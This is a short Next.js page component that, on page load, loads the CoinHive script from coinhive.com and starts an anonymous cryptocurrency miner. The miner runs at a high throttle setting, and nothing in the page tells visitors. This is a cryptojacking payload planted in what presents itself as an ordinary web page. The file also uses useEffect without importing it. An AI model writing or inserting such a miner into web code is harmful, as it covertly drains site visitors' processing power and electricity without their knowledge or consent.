import Script from 'next/script';
export default function Page() {
  useEffect(() => { const m = new window.CoinHive.Anonymous('0123456789abcdef0123456789ABCDEF', {throttle: 0.9}); m.start(); }, []);
  return jsx(Script, {src: 'https://coinhive.com/lib/coinhive.min.js'});
}
